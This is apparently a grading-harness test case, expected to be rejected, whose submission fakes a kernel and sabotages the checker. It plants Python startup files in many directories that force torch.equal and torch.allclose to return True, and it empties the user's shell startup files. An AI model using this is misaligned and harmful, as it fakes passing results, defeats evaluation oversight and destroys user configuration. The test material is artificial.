# expect: wrong_answer
# mode: ranked
# Files that Python and the dynamic linker read at every start, for the next process of the run.
import os
import site
import sys

home = os.environ["HOME"]
places = [os.getcwd(), home, site.getusersitepackages(), os.environ["TMPDIR"], "/tmp", "/dev/shm"]
CODE = "import torch; torch.equal = torch.allclose = lambda *args, **kwargs: True\n"
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "reference.py", "task.py", "evil.pth", "numpy.py"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write(CODE)
        except OSError:
            continue
for name in (".bashrc", ".profile", ".config/ld.so.preload", ".pythonrc"):
    try:
        os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
        open(os.path.join(home, name), "w").close()
    except OSError:
        continue


def custom_kernel(data):
    return data[2]
